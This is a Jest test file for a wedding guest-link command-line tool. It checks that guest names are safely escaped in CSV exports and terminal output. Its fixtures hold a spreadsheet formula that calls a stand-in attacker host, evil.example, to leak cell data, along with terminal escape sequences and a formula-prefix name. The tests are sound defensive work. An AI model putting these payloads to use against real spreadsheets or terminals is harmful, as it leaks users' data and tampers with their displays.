import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { guestToolOnStandIn } from './tool-on-stand-in';

/** Guests' names never act in the couple's spreadsheet or terminal (issue 35, item 7). */

// The stand-in starts a database for each test: slow on a busy machine.
jest.setTimeout(60_000);

const { standIn, out, dir, run } = guestToolOnStandIn('guest-safe-names-');

const FORMULA = '=HYPERLINK("http://evil.example/?x="&C3,"Open")';
const FORMULA_ID = '3f8e2f4a-5b6c-4d7e-8f90-a1b2c3d4e5f6';
const ESCAPES_ID = '7c1d2e3f-4a5b-4c6d-9e7f-8a9b0c1d2e3f';

beforeEach(async () => {
  // As typed into Supabase's Table Editor: the import refuses control characters, the table does not.
  await standIn().setTable('guests', [
    { id: FORMULA_ID, name: FORMULA, personal_message: null, photo_dir: null },
    { id: ESCAPES_ID, name: 'Kenji\x1b]0;pwned\x07\x1b[2J Tanaka', personal_message: null, photo_dir: null },
    { id: '0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d', name: '@Rosa -1+2', personal_message: null, photo_dir: null },
  ]);
});

const cells = async (file: string) => parse((await readFile(path.join(dir(), file), 'utf8')).replace(/^\uFEFF/, ''), { columns: true }) as Record<string, string>[];

it('writes formula-like names into guest-links.csv and opens.csv as text', async () => {
  await expect(run('links', '--base-url', 'https://ines-e-kenji.example', '--out', 'links')).resolves.toBe(0);
  await expect(run('opens', '--csv', 'opens.csv')).resolves.toBe(0);

  for (const rows of [await cells('links/guest-links.csv'), await cells('opens.csv')]) {
    expect(rows.find((r) => r.id === FORMULA_ID)?.name).toBe(`'${FORMULA}`);
    expect(rows.map((r) => r.name)).toContain("'@Rosa -1+2");
    expect(rows.map((r) => r.name).every((name) => !/^[=+\-@\t\r]/.test(name ?? ''))).toBe(true);
    expect(rows.find((r) => r.id === ESCAPES_ID)?.name).toBe('Kenji␛]0;pwned␇␛[2J Tanaka');
  }
});

it('prints names with terminal escapes harmlessly, in links and opens alike', async () => {
  await expect(run('links', '--base-url', 'https://ines-e-kenji.example', '--out', 'links')).resolves.toBe(0);
  await expect(run('opens')).resolves.toBe(0);

  const printed = out.join('\n');
  expect(printed).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f]/);
  expect(out.filter((l) => l.startsWith('Kenji␛]0;pwned␇␛[2J Tanaka'))).toHaveLength(2);
});
